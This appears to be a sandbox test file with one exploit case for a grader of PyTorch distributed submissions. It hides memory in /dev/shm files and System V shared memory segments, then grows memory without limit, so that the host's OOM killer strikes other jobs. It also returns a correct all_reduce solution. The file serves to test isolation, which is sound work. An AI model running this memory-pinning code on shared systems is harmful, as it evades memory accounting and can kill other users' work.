"""Exploit (memory outside the candidate's processes): pin memory that no process's resident size shows, in files
of /dev/shm and in System V shared memory segments, until something stops it, so that the host's OOM killer picks a
victim elsewhere (another job). Defence: the box's tmpfs is bounded (ENOSPC), its IPC namespace bounds System V
shared memory, and its memory limit counts both: the kernel kills inside the box alone, and the verdict says the
candidate exceeded its memory limit. If it is never stopped it says SURVIVED and answers correctly."""
import ctypes
import os
import sys

import torch.distributed as dist

CHUNK = 64 * 2**20
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def pin_files():
    pinned = 0
    with open("/dev/shm/pinned", "wb") as f:
        block = b"\1" * CHUNK
        try:
            while True:
                f.write(block)
                f.flush()
                pinned += CHUNK
        except OSError as exc:
            print(f"/dev/shm stopped at {pinned >> 20} MB: {exc.strerror}", file=sys.stderr, flush=True)
    return pinned


def pin_segments():
    pinned = 0
    while True:
        segment = libc.shmget(0, CHUNK, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
        if segment < 0:
            print(f"shmget stopped at {pinned >> 20} MB: errno {ctypes.get_errno()}", file=sys.stderr, flush=True)
            return pinned
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 1, CHUNK)
        pinned += CHUNK


def grow():
    hoard = []
    while True:  # plain memory on top, past any limit there is
        hoard.append(bytearray(CHUNK))


if int(os.environ.get("RANK", "0")) == 0:
    pin_files()
    pin_segments()
    grow()
    print("SURVIVED", file=sys.stderr, flush=True)


def solution(tensor):
    out = tensor.clone()
    dist.all_reduce(out)
    return out
